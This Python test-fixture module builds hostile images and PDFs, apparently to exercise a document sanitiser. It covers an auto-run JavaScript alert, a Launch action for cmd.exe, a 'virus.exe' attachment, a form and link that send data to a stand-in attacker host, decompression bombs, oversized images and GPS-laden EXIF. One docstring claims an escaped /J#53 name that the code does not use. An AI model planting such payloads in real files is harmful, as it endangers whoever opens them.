"""Pictures and PDFs as people send them, good and bad."""

import io
import struct
import zlib

import pypdf
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from common.documents import Paragraph, as_pdf
from tests.common.documents.papers import form, letter

GPS, ORIENTATION, MAKE, DESCRIPTION = 0x8825, 0x0112, 0x010F, 0x010E
SECRET_PLACE = "MAY-ANH-CUA-TOI"


def picture(kind="JPEG", size=(640, 480), colour=(200, 30, 30), mode="RGB", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, kind, **options)
    return out.getvalue()


def photograph(*, orientation: int = 1, size=(640, 480)) -> bytes:
    """A JPEG whose EXIF tells where and with what it was taken, with a comment and XMP; red left, blue right."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (size[0] // 2, 0, *size))
    exif = Image.Exif()
    exif[MAKE], exif[DESCRIPTION], exif[ORIENTATION] = SECRET_PLACE, SECRET_PLACE, orientation
    exif[GPS] = {1: "N", 2: (10.0, 14.0, 24.0), 3: "E", 4: (106.0, 22.0, 30.0)}
    out = io.BytesIO()
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{SECRET_PLACE}</x:xmpmeta>".encode()
    image.save(out, "JPEG", exif=exif, comment=SECRET_PLACE.encode(), xmp=xmp, quality=95)
    return out.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A small file that says it is a large picture: rows of one bit, all white."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    deflater = zlib.compressobj(9)
    row = b"\0" + b"\xff" * ((width + 7) // 8)
    rows = b"".join(deflater.compress(row) for _ in range(min(height, 5000))) + deflater.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def paper(*texts: str) -> bytes:
    """A PDF with one page for each text."""
    return as_pdf([form(title="Tài liệu", sections=[Paragraph(text)], code=None) for text in texts])


def rewritten(change, source: bytes | None = None, **options) -> bytes:
    """A PDF of a letter after `change(writer)`."""
    writer = pypdf.PdfWriter()
    writer.append(io.BytesIO(source or as_pdf(letter())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def with_script(writer) -> None:
    script = action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    names = ArrayObject([TextStringObject("a"), writer._add_object(script)])
    writer._root_object[NameObject("/Names")] = action(JavaScript=action(Names=names))


def with_file(writer) -> None:
    writer.add_attachment("virus.exe", b"MZ")


def with_launch(writer) -> None:
    writer._root_object[NameObject("/OpenAction")] = action(
        S=NameObject("/Launch"), F=TextStringObject("cmd.exe")
    )


def with_script_on_a_page(writer) -> None:
    writer.pages[0][NameObject("/AA")] = action(
        O=action(S=NameObject("/JavaScript"), JS=TextStringObject("1"))
    )


def with_sending_form(writer) -> None:
    button = action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Widget"),
        Rect=ArrayObject(NumberObject(n) for n in (0, 0, 9, 9)),
        A=action(S=NameObject("/SubmitForm"), F=TextStringObject("https://kẻ-xấu.example")),
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(button)])


def with_hidden_script(writer) -> None:
    """The name written with an escape: /J#53 is /JS."""
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        action(S=NameObject("/JavaScript"), JS=TextStringObject("1"))
    )


def with_photograph(writer) -> None:
    """A page that shows a photograph with its EXIF, as phone scanners make them."""
    data = photograph()
    image = StreamObject()
    image._data = data
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(640),
            NameObject("/Height"): NumberObject(480),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/DCTDecode"),
        }
    )
    notes = DecodedStreamObject()
    notes.set_data(SECRET_PLACE.encode())
    image[NameObject("/Metadata")] = writer._add_object(notes)
    page = writer.pages[0]
    page["/Resources"][NameObject("/XObject")] = action(Im1=writer._add_object(image))


def with_bomb(writer) -> None:
    """A drawing of a hundred kilobytes that is a hundred megabytes."""
    drawing = StreamObject()
    drawing._data = zlib.compress(b" " * 100_000_000)
    drawing[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(drawing)


def with_nested_bomb(writer) -> None:
    drawing = StreamObject()
    drawing._data = zlib.compress(zlib.compress(b" " * 1000))
    drawing[NameObject("/Filter")] = ArrayObject([NameObject("/FlateDecode")] * 2)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(drawing)


def with_huge_picture(writer) -> None:
    with_photograph(writer)
    image = writer.pages[0]["/Resources"]["/XObject"]["/Im1"]
    image[NameObject("/Width")] = image[NameObject("/Height")] = NumberObject(60_000)


def with_names(writer) -> None:
    writer.add_metadata({"/Title": "Tờ trình", "/Author": SECRET_PLACE, "/Producer": SECRET_PLACE})


def with_stamp_and_link(writer) -> None:
    look = DecodedStreamObject()
    look.set_data(b"0 0 9 9 re f")
    look[NameObject("/Type")], look[NameObject("/Subtype")] = NameObject("/XObject"), NameObject("/Form")
    rect = ArrayObject(NumberObject(n) for n in (0, 0, 9, 9))
    stamp = action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Stamp"),
        Rect=rect,
        AP=action(N=writer._add_object(look)),
        T=TextStringObject(SECRET_PLACE),
    )
    link = action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Link"),
        Rect=rect,
        A=action(S=NameObject("/URI"), URI=TextStringObject("https://kẻ-xấu.example")),
    )
    both = [writer._add_object(stamp), writer._add_object(link)]
    writer.pages[0][NameObject("/Annots")] = ArrayObject(both)
